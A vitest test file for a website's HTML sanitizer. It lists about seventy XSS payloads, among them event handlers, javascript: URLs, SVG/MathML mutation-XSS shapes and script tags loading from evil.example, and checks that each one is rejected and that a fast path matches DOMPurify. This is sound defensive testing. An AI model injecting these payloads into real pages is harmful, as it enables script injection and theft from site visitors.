import { readdirSync, readFileSync } from 'node:fs'
import path from 'node:path'
import { JSDOM } from 'jsdom'
import { describe, expect, it } from 'vitest'
import { parse } from 'yaml'
import {
  ALLOWED_TAGS,
  isPlainMarkup,
  nestingProblems,
  SAFE_HREF,
  sanitizeMarkup,
  serializeText,
  toMarkupBlocks,
  unsafeMarkupChanges,
  type MarkupNode,
} from './markup.ts'

/** The public XSS corpus (checker/__fixtures__/xss): the fast path may take a payload only if DOMPurify would render it the same. */
const xssCorpus = (
  JSON.parse(readFileSync(path.resolve(import.meta.dirname, '__fixtures__/xss/dompurify-vectors.json'), 'utf8')) as {
    payload: string
  }[]
).map((v) => v.payload)

/** Markup an editor could paste that must never reach a page: the content check rejects each one. */
const hostileVectors: string[] = [
  // event handlers
  '<b onclick="alert(1)">x</b>',
  '<i onmouseover=alert(1)>x</i>',
  '<a href="/ai/x" onfocus="alert(1)" autofocus>x</a>',
  '<p onpointerenter="alert(1)">x</p>',
  '<strong ONCLICK="alert(1)">x</strong>',
  '<em onanimationstart=alert(1) style="animation:x">x</em>',
  '<li onclick=alert(1)>x</li>',
  '<ul onkeydown="alert(1)"><li>x</li></ul>',
  '<img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  // script-bearing elements
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script type="module">import("//evil.example")</script>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // URL schemes
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">protocol-relative</a>',
  '<a href="/\\evil.example">backslash</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="ftp://evil.example">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="https://ok.example" target="_blank">x</a>',
  '<a href="/x" style="position:fixed;inset:0">overlay</a>',
  '<a href="/x" id="login">clobber</a>',
  '<a href="/x" name="location">clobber</a>',
  // SVG and MathML
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  // mXSS shapes
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi><table><mi><style><img src=x onerror=alert(1)></style>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  '<a href="/x"><!--</a><img src=x onerror=alert(1)>--></a>',
  '<b title="x&quot; onclick=&quot;alert(1)">x</b>',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  // attributes outside the allow-list
  '<b data-x="1">x</b>',
  '<p aria-hidden="true">x</p>',
  '<em class="x">x</em>',
]

const allowedTags = new Set<string>(ALLOWED_TAGS)

/** Every element is on the allow-list, carries only href/rel, and every href is safe. */
function expectOnlyAllowed(nodes: MarkupNode[]) {
  for (const node of nodes) {
    if (typeof node === 'string') continue
    const [tag, attrs, ...children] = node
    expect(allowedTags.has(tag), `<${tag}> reached the page`).toBe(true)
    for (const [name, value] of Object.entries(attrs || {})) {
      expect(['href', 'rel']).toContain(name)
      if (name === 'href') expect(value).toMatch(SAFE_HREF)
    }
    expectOnlyAllowed(children)
  }
}

/** Markup editors really write: it must pass unchanged. */
const harmless: [string, string][] = [
  ['Plain text', 'Plain text'],
  ['<b>bold</b> and <strong>strong</strong>', '<b>bold</b> and <strong>strong</strong>'],
  ['<i>italic</i> and <em>emphasis</em>', '<i>italic</i> and <em>emphasis</em>'],
  ['Line<br>break', 'Line<br>break'],
  ['Self-closed<br/>break', 'Self-closed<br>break'],
  ['<a href="/ai/Ai-Development">AI development</a>', '<a href="/ai/Ai-Development">AI development</a>'],
  ['<a href="https://www.example.com/contact">contact</a>', '<a href="https://www.example.com/contact">contact</a>'],
  ['<a href="http://example.com">http</a>', '<a href="http://example.com">http</a>'],
  ['<a href="mailto:hello@example.com">mail</a>', '<a href="mailto:hello@example.com">mail</a>'],
  ['<a href="tel:+14155550142">call</a>', '<a href="tel:+14155550142">call</a>'],
  ['<a href="#faq">FAQ</a>', '<a href="#faq">FAQ</a>'],
  ['<a href="/blog?page=2">blog</a>', '<a href="/blog?page=2">blog</a>'],
  ['<ul><li>one</li><li>two</li></ul>', '<ul><li>one</li><li>two</li></ul>'],
  ['<ol><li>first</li><li>second</li></ol>', '<ol><li>first</li><li>second</li></ol>'],
  ['<p>A paragraph</p><p>Another</p>', '<p>A paragraph</p><p>Another</p>'],
  ['Costs &amp; timelines', 'Costs &amp; timelines'],
  ['Fees from $10,000 &mdash; fixed', 'Fees from $10,000 — fixed'],
  ['5 &lt; 6 and 7 > 2', '5 &lt; 6 and 7 &gt; 2'],
  ['<b><i>nested</i> inline</b>', '<b><i>nested</i> inline</b>'],
  [
    '<ul><li><b>Pilot:</b> 4-6 weeks</li><li><a href="/ai/Ai-Consulting">consulting</a></li></ul>',
    '<ul><li><b>Pilot:</b> 4-6 weeks</li><li><a href="/ai/Ai-Consulting">consulting</a></li></ul>',
  ],
  ['Quotes "double" and \'single\'', 'Quotes "double" and \'single\''],
  ['Unicode: café, naïve, 24/7 ✓', 'Unicode: café, naïve, 24/7 ✓'],
]

describe('markup allow-list', () => {
  it('holds at least 60 hostile vectors', () => expect(hostileVectors.length).toBeGreaterThanOrEqual(60))

  it.each(hostileVectors)('rejects %s', (html) => {
    const rejected = unsafeMarkupChanges(html).length > 0 || nestingProblems(html).length > 0
    expect(rejected).toBe(true)
  })

  it.each(hostileVectors)('leaves only allowed elements and safe links of %s', (html) => {
    expectOnlyAllowed(toMarkupBlocks(html))
  })

  it.each(harmless)('passes %s unchanged', (html, serialized) => {
    expect(unsafeMarkupChanges(html)).toEqual([])
    expect(nestingProblems(html)).toEqual([])
    expect(sanitizeMarkup(html).html).toBe(serialized)
  })
})

describe('markup blocks', () => {
  it('wraps inline markup in a paragraph', () => {
    expect(toMarkupBlocks('Hi <b>there</b>')).toEqual([['p', 0, 'Hi ', ['b', 0, 'there']]])
  })
  it('keeps a list as its own block', () => {
    expect(toMarkupBlocks('<ul><li>a</li></ul>')).toEqual([['ul', 0, ['li', 0, 'a']]])
  })
  it('marks external links noopener noreferrer and leaves site links alone', () => {
    expect(toMarkupBlocks('<a href="https://x.example">x</a> <a href="/blog">b</a>')).toEqual([
      ['p', 0, ['a', { href: 'https://x.example', rel: 'noopener noreferrer' }, 'x'], ' ', ['a', { href: '/blog' }, 'b']],
    ])
  })
  it('decodes entities into text, which React escapes again', () => {
    expect(toMarkupBlocks('R&amp;D &lt;b&gt;')).toEqual([['p', 0, 'R&D <b>']])
  })
})

describe('plain-markup fast path', () => {
  it.each(harmless.map(([html]) => html).filter(isPlainMarkup))('agrees with DOMPurify on %s', (html) => {
    expect(toMarkupBlocks(html)).toEqual(toMarkupBlocksViaDomPurify(html))
  })
  it.each(hostileVectors)('never takes %s', (html) => expect(isPlainMarkup(html)).toBe(false))
  it.each([
    '<a href="/&#47;evil.example">entity in href</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href=/x>unquoted</a>',
    '<b >space</b>',
    '<B>upper</B>',
    '<!-- comment -->',
    'AT&T',
  ])('leaves %s to DOMPurify', (html) => expect(isPlainMarkup(html)).toBe(false))
  it.each(realMarkup().filter(isPlainMarkup))('agrees with DOMPurify on the real page text %s', (html) => {
    expect(toMarkupBlocks(html)).toEqual(toMarkupBlocksViaDomPurify(html))
  })
  it("takes most of the real pages' markup, so the check stays fast at real size", () => {
    const markup = realMarkup()
    expect(markup.filter(isPlainMarkup).length / markup.length).toBeGreaterThan(0.95)
  })
  it.each(xssCorpus)('takes no corpus payload it would render differently from DOMPurify: %s', (html) => {
    if (isPlainMarkup(html)) expect(toMarkupBlocks(html)).toEqual(toMarkupBlocksViaDomPurify(html))
  })
  it("takes single-quoted links, DOMPurify's output aside", () => {
    expect(isPlainMarkup("Read <a href='/blog/mlops-checklist'>the checklist</a>.")).toBe(true)
    expect(isPlainMarkup("<a href='javascript:alert(1)'>x</a>")).toBe(false)
    expect(isPlainMarkup(`<a href='/x" onclick="alert(1)'>x</a>`)).toBe(false)
  })
  it('takes the markup editors write', () => {
    expect(isPlainMarkup('Costs from <b>$10,000</b> &mdash; see <a href="/ai/Ai-Consulting">consulting</a>.')).toBe(true)
    expect(isPlainMarkup('<ul><li>One<br>two</li></ul>')).toBe(true)
  })
})

describe('tag-free text, serialized without a DOM', () => {
  const viaDom = (text: string) => {
    const body = new JSDOM('').window.document.createElement('body')
    body.innerHTML = text
    return body.innerHTML
  }
  const edgeCases = [
    'R&D',
    'AT&T',
    'Q&A',
    'Pharma & Logistics',
    '1 > 0',
    '&notit;',
    '&notin;',
    '&amp',
    '&ampx',
    '&AMP',
    '&#0;',
    '&#x110000;',
    '&#128;',
    '&#x80;',
    '&;',
    '&#',
    '&#x',
    '&#xZ',
    'a&copy=b',
    '&copyx',
    '&CounterClockwiseContourIntegral;',
    '&nbsp;x',
    'a\u00a0b',
    '&lt',
    '&gt;&LT;',
    '&#65',
    '&#x41;',
    '&#xD800;',
    '&#1114112;',
    '&aacute',
    '&Aacute;x',
    'x&y;z',
    '&zwnj;',
    '&#9;',
    '&#13;',
    '&#xd;',
    '&&',
    '& &amp; &',
  ]
  const texts = [...edgeCases, ...realMarkup(), ...xssCorpus].filter((t) => !/[<\r\0]/.test(t))
  it('covers the real pages and the corpus', () => expect(texts.length).toBeGreaterThan(edgeCases.length))
  it.each(texts)('serializes %s as a DOM round trip does', (text) => expect(serializeText(text)).toBe(viaDom(text)))
})

/** Every markup-bearing text of the real pages, as editors wrote it. */
function realMarkup(): string[] {
  const dir = path.resolve(import.meta.dirname, '../content/pages')
  const found: string[] = []
  const walk = (value: unknown) => {
    if (typeof value === 'string') {
      if (/[<&]/.test(value)) found.push(value)
    } else if (Array.isArray(value)) value.forEach(walk)
    else if (value && typeof value === 'object') Object.values(value).forEach(walk)
  }
  for (const file of readdirSync(dir)) walk(parse(readFileSync(path.join(dir, file), 'utf8')))
  return found
}

/** The same pipeline with the fast path turned off: DOMPurify always. */
function toMarkupBlocksViaDomPurify(html: string) {
  return toMarkupBlocks(sanitizeMarkup(html).html + '<!---->')
}

describe('markup the browser would rearrange', () => {
  it.each([
    ['a bold closed after its paragraph', '<p><b>bold</p>', 'the <b> before "bold" is not closed before </p>'],
    ['tags closed in the wrong order', '<i>x <b>y</i> z</b>', 'the <b> before "y" is not closed before </i>'],
    ['a tag never closed', 'Call <b>today', 'the <b> before "today" is never closed'],
    ['a tag never closed, with no words after it', 'x <b><i></i>', 'the <b> at character 3 is never closed'],
    [
      'a list item not closed before the next',
      '<ul><li>one<li>two</li></ul>',
      'the <li> before "one" is not closed before the next <li>',
    ],
    [
      'a list inside a paragraph',
      '<p>text <ul><li>x</li></ul></p>',
      '<p> is closed early because a list or paragraph starts inside it',
    ],
  ])('names the tag and where it opens: %s', (_what, html, detail) => {
    expect(nestingProblems(html)).toEqual([detail])
  })

  it('reports a tag left open once, however often', () => {
    expect(nestingProblems(`${'<b>'.repeat(3)}x`)).toEqual(['the <b> before "x" is never closed'])
  })
})
